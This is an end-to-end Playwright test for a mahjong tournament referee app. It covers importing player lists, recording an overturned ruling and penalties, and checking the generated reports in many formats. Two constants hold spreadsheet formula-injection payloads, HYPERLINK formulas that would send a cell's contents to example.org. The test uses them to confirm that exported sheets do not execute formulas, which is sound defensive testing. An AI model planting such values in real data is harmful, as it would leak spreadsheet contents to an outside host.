import { execFileSync } from 'node:child_process'
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from '@playwright/test'
import { commandLine } from '../../scripts/build.ts'
import { ask, DEAD_HAND, enter, makeTournament, openTable } from '../../test/e2e/desk.ts'
import { expect, type Served, test } from '../../test/e2e/fixtures.ts'
import { chooseList } from '../../test/e2e/lists.ts'
import { apartFromWhen, made } from './made.ts'
import { againstSchema, askedByHtml, asSheetProgramReads, drawPdf, readPdf } from './opened.ts'
import { AT_TABLE_7, BAD, badLineAt, playersCsv, seatingCsv } from './people.ts'
import { EVERY, fileOf, type Wanted } from './wanted.ts'

/** A reason with a formula: a spreadsheet must not execute it. */
const FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Zofia")'
const HOSTILE_NAME = '=HYPERLINK("http://example.org";"Zofia Zając")'
const STATEMENT = '中村 さくら, Żółkiewski and L’Hôpital saw it: « la tuile n’était pas prise »'

/** All generated files, and the pages as pictures, stored for review. */
const LEFT = join(import.meta.dirname, '../../node_modules/.cache/whole')

test('from two spreadsheets to an overturned ruling, and every report in every format and language, opened by other programs', async ({
  page,
  served,
  browser,
  violations,
}) => {
  rmSync(LEFT, { recursive: true, force: true })
  mkdirSync(LEFT, { recursive: true })
  await makeTournament(page, served)
  await test.step('players and seating', () => importLists(page, served))
  await test.step('incident, ruling, appeal', () => decideIncident(page, served))
  const files = await test.step('every report', () => makeAll(page))
  await test.step('what is held about a person, of two copies', () => personTwice(served))
  await test.step('opened by other programs', () => openAll(browser, files))
  await test.step('the record is corrected', () => correct(page, served))
  expect(violations).toEqual([])
})

async function importLists(page: Page, served: Served): Promise<void> {
  const count = (what: string): unknown => ask(served, `SELECT count(*) AS n FROM ${what}`)
  await page.keyboard.press('Control+7')
  await chooseList(page, 'joueurs.csv', playersCsv())
  await expect(page.getByLabel('The list is about')).toHaveValue('players')
  const bad = page.getByRole('region', { name: '10 lines can’t be imported' })
  for (const n of BAD.keys()) await expect(bad.getByRole('row').nth(n + 1)).toContainText(`${badLineAt(n)}`)
  for (const [n, { why }] of BAD.entries())
    await expect(
      bad
        .getByRole('row')
        .nth(n + 1)
        .locator('.why'),
    ).toContainText(why)
  expect(count('player'), 'nothing by halves').toEqual([{ n: 0 }])
  for (const [n, { to }] of BAD.entries())
    for (const [field, text] of Object.entries(to)) {
      const cell = page.getByLabel(`Line ${badLineAt(n)}, ${field}`)
      await cell.fill(text)
      await cell.press('Enter')
      await expect(page.getByText(`${n + 1} line${n === 0 ? '' : 's'} corrected here`)).toBeVisible()
    }
  await expect(page.locator('.ledger.bad')).toHaveCount(0)
  expect(count('player')).toEqual([{ n: 0 }])
  await page.getByRole('button', { name: 'Import 210 · Players' }).click()
  await expect(page.getByText('joueurs.csv is imported. Players: 210 new, 0 changed.')).toBeVisible()
  expect(count('player')).toEqual([{ n: 210 }])

  await chooseList(page, 'seating.csv', seatingCsv(false))
  const wrong = page.getByRole('region', { name: '2 lines can’t be imported' })
  await expect(wrong.getByRole('row').nth(1)).toContainText('999')
  await expect(wrong.getByRole('row').nth(2)).toContainText('table 1 in round 1')
  expect(count('seating')).toEqual([{ n: 0 }])
  await page.getByRole('button', { name: 'Do not import' }).click()
  await chooseList(page, 'seating.csv', seatingCsv(true))
  await page.getByRole('button', { name: 'Import 500 · Seating' }).click()
  await expect(page.getByText('seating.csv is imported.')).toBeVisible()
  expect(ask(served, 'SELECT count(*) AS seats, count(DISTINCT table_id) AS tables FROM seating')).toEqual([{ seats: 2000, tables: 500 }])
}

async function decideIncident(page: Page, served: Served): Promise<void> {
  await page.keyboard.press('Control+1')
  await openTable(page, '7')
  await enter(page, HAND)
  await expect(page.locator('.note.violation')).toContainText('Violation · West')
  await page.keyboard.press('PageDown')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('heading', { name: /West’s hand is dead/ })).toBeVisible()
  await page.keyboard.press('1')
  await page.keyboard.press('Control+Enter')
  await expect(page.getByLabel('Reason')).toBeFocused()
  await page.keyboard.type('Seen by both opponents, the tile lay in the river.')
  await page.keyboard.press('Control+Enter')
  await expect(page.locator('.tag.done')).toContainText('confirmed by Marta Olsen')

  await page.keyboard.press('Control+3')
  await expect(page.locator('tbody tr')).toHaveCount(1)
  await page.keyboard.press('ArrowDown')
  await page.keyboard.press('Enter')
  await expect(page.getByRole('heading', { name: 'Incident 1' })).toBeVisible()
  await page.keyboard.press('s')
  await page.getByRole('group', { name: 'Who says it' }).getByText(AT_TABLE_7[1]).click()
  await page.getByLabel('What is said').fill(STATEMENT)
  await page.keyboard.press('Control+Enter')
  await expect(page.locator('.rl').filter({ hasText: STATEMENT })).toBeVisible()
  await page.keyboard.press('a')
  await page.getByLabel('Grounds').fill(FORMULA)
  await page.keyboard.press('Control+Enter')
  await expect(page.locator('.head .tag')).toHaveText('appealed')
  await page.keyboard.press('a')
  await page.getByLabel('Reason').fill('The opponents had not discarded yet: the video shows it.')
  await page.getByText('Overturned on appeal: no fault', { exact: true }).click()
  await page.keyboard.press('Control+Enter')
  await expect(page.locator('.head .tag')).toHaveText(/overturned on appeal/)
  expect(ask(served, 'SELECT outcome FROM appeals')).toEqual([{ outcome: 'overturned' }])

  for (const [name, reason] of [
    [HOSTILE_NAME, FORMULA],
    [AT_TABLE_7[0], 'It rang in round 1'],
    [AT_TABLE_7[2], "Il a sonné, c'était l'été"],
    [AT_TABLE_7[3], 'It rang twice'],
  ] as const) {
    await page.keyboard.press('Control+4')
    await page.getByRole('button', { name: 'Penalty without an act' }).click()
    await page.locator('footer').getByRole('combobox', { name: 'Rule', exact: true }).selectOption('conduct.phone')
    await page.locator('footer').getByRole('combobox', { name: 'Player' }).fill(name)
    await page.locator('footer').getByText('20 tournament points', { exact: true }).click()
    await page.locator('footer').getByLabel('Reason').fill(reason)
    if (name === HOSTILE_NAME)
      await page
        .locator('footer')
        .getByRole('checkbox', { name: /is not registered: a new person/ })
        .check()
    await page.keyboard.press('Control+Enter')
    await expect(page.getByRole('row').filter({ hasText: reason })).toBeVisible()
  }
}

/** Makes each file twice: the second time the bytes are the same, except for the times. */
async function makeAll(page: Page): Promise<readonly Wanted[]> {
  await page.keyboard.press('Control+6')
  await expect(page.getByRole('heading', { name: 'Reports', level: 1 })).toBeVisible()
  for (const wanted of EVERY)
    await test.step(fileOf(wanted), async () => {
      for (let left = 3; ; left--) {
        const since = new Date()
        const one = await made(page, wanted)
        const other = await made(page, wanted)
        const isOneMinute = Math.floor(since.getTime() / 60_000) === Math.floor(Date.now() / 60_000)
        // the printed text contains the minute
        if (!isOneMinute && left > 0) continue
        writeFileSync(join(LEFT, fileOf(wanted)), one)
        writeFileSync(join(LEFT, `again-${fileOf(wanted)}`), other)
        // the file of a person includes the record of its own export
        if (wanted.kind === 'person') break
        const isSame = apartFromWhen(other, wanted.format, since) === apartFromWhen(one, wanted.format, since)
        expect.soft(isSame, `${fileOf(wanted)} twice is the same`).toBe(true)
        break
      }
    })
  return EVERY
}

/** Exports from two copies of the file, so that neither records the other export. */
async function personTwice(served: Served): Promise<void> {
  const shinpan = (...args: readonly string[]): void => {
    execFileSync(process.execPath, [commandLine(), ...args], {
      stdio: ['ignore', 'ignore', 'inherit'],
      env: { ...process.env, SHINPAN_HOME: join(served.folder, 'cli') },
    })
  }
  for (const format of ['pdf', 'html', 'json'] as const) {
    const copies = ['one', 'other'].map((name) => join(served.folder, `${name}-${format}.copy`))
    for (const copy of copies) shinpan('backup', '--db', join(served.folder, 'Spring Open.shinpan'), '--out', copy)
    const since = new Date()
    const both = copies.map((copy) => {
      const out = `${copy}.${format}`
      shinpan('report', '--db', copy, '--person', AT_TABLE_7[0], '--out', out, '--lang', 'both')
      return readFileSync(out)
    })
    const isOneMinute = Math.floor(since.getTime() / 60_000) === Math.floor(Date.now() / 60_000)
    const [one, other] = both.map((bytes) => apartFromWhen(bytes, format, since))
    if (isOneMinute || format === 'json') expect.soft(one === other, `person ${format} of two copies is the same`).toBe(true)
    else console.log(`person ${format}: the minute changed meanwhile, not compared`)
  }
}

async function openAll(browser: Browser, files: readonly Wanted[]): Promise<void> {
  const pathOf = (wanted: Wanted): string => join(LEFT, fileOf(wanted))
  const of = (...formats: readonly Wanted['format'][]) => files.filter(({ format }) => formats.includes(format))
  const pages: string[] = []
  for (const wanted of of('pdf')) {
    const { pages: count, tagged, text, embedded } = readPdf(pathOf(wanted))
    const name = fileOf(wanted)
    pages.push(`${name} ${count}`)
    expect.soft({ tagged, embedded }, name).toEqual({ tagged: true, embedded: true })
    expect.soft(count, name).toBeGreaterThan(0)
    if (wanted.kind === 'incident') expect.soft(count, name).toBeLessThanOrEqual(2)
    for (const expected of namesIn(wanted)) expect.soft(flat(text), name).toContain(flat(expected))
    drawPdf(pathOf(wanted), join(LEFT, 'pages'))
  }
  for (const wanted of of('html')) expect.soft(await askedByHtml(browser, pathOf(wanted)), fileOf(wanted)).toEqual([])
  for (const wanted of of('json')) {
    expect.soft(againstSchema(wanted.kind, readFileSync(pathOf(wanted), 'utf8')), fileOf(wanted)).toEqual([])
  }
  const sheets = of('csv', 'xlsx')
  const read = asSheetProgramReads(sheets.map(pathOf), join(LEFT, 'sheets'))
  for (const wanted of sheets) {
    const cells = read.get(fileOf(wanted)) ?? ''
    expect.soft(/table:formula|<text:a|Err:\d|#NAME/.exec(cells)?.[0], fileOf(wanted)).toBeUndefined()
    for (const expected of namesIn(wanted)) expect.soft(cells, fileOf(wanted)).toContain(escaped(expected))
  }
  console.log(`${files.length} files; pages: ${pages.join(', ')}`)
}

/** The names that a report must contain, in their own letters. */
const namesIn = ({ kind }: Wanted): readonly string[] => {
  switch (kind) {
    case 'incident':
      return [...AT_TABLE_7, STATEMENT, FORMULA]
    case 'penalties':
    case 'tournament':
      return [AT_TABLE_7[0], AT_TABLE_7[2], AT_TABLE_7[3], HOSTILE_NAME, FORMULA]
    case 'player':
      return [AT_TABLE_7[2]]
    case 'person':
      return [AT_TABLE_7[0]]
    case 'incidents':
      return [AT_TABLE_7[2]]
    case 'players':
    case 'scores':
      return AT_TABLE_7
    case 'rule-sheet':
    case 'penalty-card':
      return ['Chombo']
    case 'form-incident':
    case 'form-penalties':
    case 'form-table':
      return ['Spring Open']
  }
}

/** Normalizes text for comparison: line breaks and spaces are removed. */
const flat = (text: string): string => text.normalize('NFKC').replaceAll(/\s+/g, '')
const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')

/** The report screen marks earlier exports as outdated. */
async function correct(page: Page, served: Served): Promise<void> {
  const incident = page.getByRole('row', { name: /^Incident 1/ })
  await expect(incident).toContainText('up to date')
  await page.keyboard.press('Control+1')
  await openTable(page, '7')
  // over the ruling and the one on appeal, to the last discard
  for (let n = 0; n < 3; n++) await page.keyboard.press('ArrowUp')
  await page.keyboard.press('Delete')
  await page.getByRole('article', { name: 'Correction' }).getByRole('button').first().click()
  await expect.poll(() => ask(served, "SELECT count(*) AS n FROM entry WHERE kind = 'event-removed'")).toEqual([{ n: 1 }])
  await page.keyboard.press('Control+6')
  await expect(incident).toContainText('outdated: the record has changed since')
  const again = await made(page, { kind: 'incident', format: 'html', language: 'en' })
  writeFileSync(join(LEFT, 'incident-after.html'), again)
  await expect(incident).toContainText('up to date')
}

/** South is in riichi; West calls pon, discards, and never takes the tile. */
const HAND = [
  ...(['@hand E1 0', '@dora 4p', 'E discard 9s', 'S draw', 'S riichi 4s', 'W draw', 'W discard 1m', 'N draw', 'N discard 2z'] as const),
  ...(['E draw', ...DEAD_HAND] as const),
]
